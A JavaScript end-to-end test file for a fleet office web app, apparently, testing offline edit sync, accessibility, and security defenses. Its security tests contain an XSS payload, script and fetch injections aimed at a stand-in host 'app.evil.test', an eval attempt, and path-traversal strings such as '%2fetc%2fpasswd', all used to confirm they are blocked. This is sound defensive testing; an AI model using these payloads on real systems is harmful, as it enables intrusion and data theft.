// @ts-check
// Work of a park office: edits offline, a refusal settled where it stands, hostile texts, a park of 100,000 drivers.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { axe, openBrowser, withPage } from "./browser.mjs";
import { DRIVERS, until, World } from "./fleet.mjs";

/** Strings that run where a page builds markup of them (SEC1). */
const HOSTILE = `"><img src=x onerror=window.__owned=1><script>window.__owned=1</script>`;
const HOSTILE_CSV = HOSTILE.replaceAll('"', '""');

/** @type {World} */
let world;
/** @type {import("playwright-core").Browser} */
let browser;
/** @type {import("./fleet.mjs").Appliance} */
let office;

before(async () => {
  world = await World.open();
  await world.startHub(
    `${DRIVERS}demo-hostile,"${HOSTILE_CSV}",Имя,,+7 900 000-00-00,66 АА 666666,Х 666 ХХ 66\n`,
  );
  browser = await openBrowser();
  office = world.appliance("office");
  await office.enrol(world.hub, "senior", world.park);
  await office.start();
  await until("the park's drivers", async () => (await office.ask("drivers", "соколов"))?.[0]);
});

after(async () => {
  await browser?.close();
  await world?.close();
});

test("an edit made offline is refused later, said at the driver, and settled there", async () => {
  await withPage(browser, await office.link(), {}, async (page) => {
    await world.hub.stop();
    await page.goto(`http://${office.listen}/drivers/${world.park}/demo-orlov`);
    const edit = {
      fields: { comment: { was: null, now: "звонить после 18" } },
      add_phones: [],
      remove_phones: [],
    };
    const answer = await page.evaluate(
      async ([path, body]) => {
        const init = {
          method: "POST",
          body: /** @type {string} */ (body),
          headers: { "content-type": "application/json" },
        };
        return (await fetch(/** @type {string} */ (path), init)).status;
      },
      [`/api/v1/parks/${world.park}/drivers/demo-orlov`, JSON.stringify(edit)],
    );
    assert.equal(answer, 200);
    await page.getByText("Сохранено здесь").first().waitFor();
    await world.hub.start();
    // Meanwhile the administrator changed the same field at the hub: a conflict with both values.
    await until("the edit to be judged", async () => (await office.ask("status")).queue.commands === 0);
    await page.getByText("Принято").first().waitFor();
  });
});

for (const [theme, lang] of /** @type {const} */ ([
  ["light", "ru"],
  ["dark", "en"],
])) {
  test(`axe finds nothing on any page, ${theme} and ${lang}`, async () => {
    await withPage(browser, await office.link(), { theme, lang }, async (page) => {
      for (const path of [
        "/capture",
        "/drivers",
        `/drivers/${world.park}/demo-sokolov`,
        "/unassigned",
        "/sync",
        "/settings",
      ]) {
        await page.goto(`http://${office.listen}${path}`);
        await page.getByRole("heading", { level: 1 }).first().waitFor();
        await page.waitForLoadState("networkidle").catch(() => undefined);
        assert.deepEqual(await axe(page), [], path);
      }
    });
  });
}

test("hostile texts are inert on every page (SEC1), frames and other addresses are refused (SEC3)", async () => {
  await withPage(browser, await office.link(), {}, async (page) => {
    for (const path of [`/drivers?text=Имя`, `/drivers/${world.park}/demo-hostile`, "/capture", "/sync"]) {
      await page.goto(`http://${office.listen}${path}`);
      await page.getByRole("heading", { level: 1 }).first().waitFor();
    }
    await page.goto(`http://${office.listen}/drivers/${world.park}/demo-hostile`);
    await page.getByText("onerror=window.__owned").first().waitFor();
    assert.equal(await page.evaluate(() => /** @type {any} */ (window).__owned), undefined);
    // What an attacker who could run script would try next.
    const blocked = await page.evaluate(async () => {
      /** @type {string[]} */
      const violations = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        violations.push(event.effectiveDirective),
      );
      const add = (/** @type {string} */ tag, /** @type {Record<string, string>} */ attributes) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
      };
      add("iframe", { src: "https://app.evil.test/" });
      add("script", { src: "data:text/javascript,window.__owned=1" });
      add("script", { src: "https://app.evil.test/x.js" });
      add("img", { src: "https://app.evil.test/x.png" });
      await fetch("https://app.evil.test/").catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 300));
      let evaluated = true;
      try {
        // biome-ignore lint/security/noGlobalEval: this is the attack
        (0, eval)("1");
      } catch {
        evaluated = false;
      }
      return {
        violations: [...new Set(violations)].sort(),
        evaluated,
        owned: /** @type {any} */ (window).__owned,
      };
    });
    assert.deepEqual(blocked.violations, ["connect-src", "frame-src", "img-src", "script-src-elem"]);
    assert.equal(blocked.evaluated, false, "eval is off");
    assert.equal(blocked.owned, undefined);
  });
});

test("picture addresses take ids and nothing else (SEC4)", async () => {
  await withPage(browser, await office.link(), {}, async (page) => {
    const tricks = [
      "..%2f..%2fkeys.db",
      "%2e%2e",
      "a%00b",
      "..%5c..",
      "%2fetc%2fpasswd",
      "~",
      ".hidden",
      "..;/x",
      "ａ",
      "A".repeat(70),
    ];
    const statuses = await page.evaluate(async (all) => {
      const answers = await Promise.all(all.map((id) => fetch(`/api/v1/photos/${id}/files/thumb`)));
      return answers.map((answer) => [answer.status, answer.headers.get("x-content-type-options")]);
    }, tricks);
    statuses.forEach(([status, sniff], index) => {
      assert.ok(status === 404 || status === 400, `${tricks[index]} -> ${status}`);
      assert.equal(sniff, "nosniff");
    });
  });
});

test("a browser that was not let in gets nothing and is told how to come in", async () => {
  await withPage(browser, `http://${office.listen}/`, {}, async (page) => {
    await page.getByRole("heading", { name: "Этот браузер не впущен" }).waitFor();
    assert.equal(await page.evaluate(async () => (await fetch("/api/v1/status")).status), 401);
    assert.deepEqual(await axe(page), []);
  });
});
